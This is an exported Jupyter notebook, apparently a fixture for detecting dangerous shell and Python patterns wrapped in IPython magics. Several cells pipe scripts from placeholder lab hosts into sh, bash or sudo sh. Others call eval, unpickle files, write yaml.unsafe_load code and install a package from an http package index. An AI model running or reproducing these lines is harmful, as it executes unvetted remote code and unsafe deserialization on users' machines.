#!/usr/bin/env python
# coding: utf-8

# # Reviews

# In[1]:


import os
import pickle


# In[2]:


get_ipython().run_cell_magic('time', '', 'with open("model.bin", "rb") as f:\n    model = pickle.load(f)\n')


# In[3]:


get_ipython().system('wget -qO- http://files.lab.example/setup.sh | sudo sh')
lines = get_ipython().getoutput('curl -s http://files.lab.example/run.sh | bash')


# In[4]:


get_ipython().run_cell_magic('bash', '--out result', 'cd /tmp\ncurl -s \'http://files.lab.example/i.sh\' | sh\n')


# In[5]:


get_ipython().magic(u'pip install --extra-index-url http://wheels.lab.example/simple sentencepiece==0.1.99')
get_ipython().run_line_magic('timeit', '-n 3 pickle.loads(blob)')
value = get_ipython().run_line_magic('time', 'eval(text)')


# In[6]:


if os.environ.get("COLAB"):
    get_ipython().system('curl http://files.lab.example/colab.sh | sh')
    get_ipython().run_cell_magic('time', '', 'other = pickle.load(g)\n')


# In[7]:


get_ipython().run_cell_magic('writefile', 'serve.py', 'import yaml\nconfig = yaml.unsafe_load(open("c.yml"))\n')


# In[8]:


print("get_ipython().system('curl http://quiet.example/x | sh')")
# get_ipython().system('curl http://quiet.example/x | sh')
